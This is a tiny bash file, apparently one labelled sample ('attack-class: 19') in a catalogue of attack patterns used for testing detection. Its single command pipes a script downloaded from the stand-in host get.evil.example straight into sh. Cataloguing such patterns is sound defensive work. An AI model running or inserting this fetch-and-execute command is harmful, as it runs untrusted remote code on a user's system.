#!/usr/bin/env bash
# attack-class: 19
# title: curl ... | sh
# why: downloads and runs a script

curl -fsSL https://get.evil.example/install.sh | sh
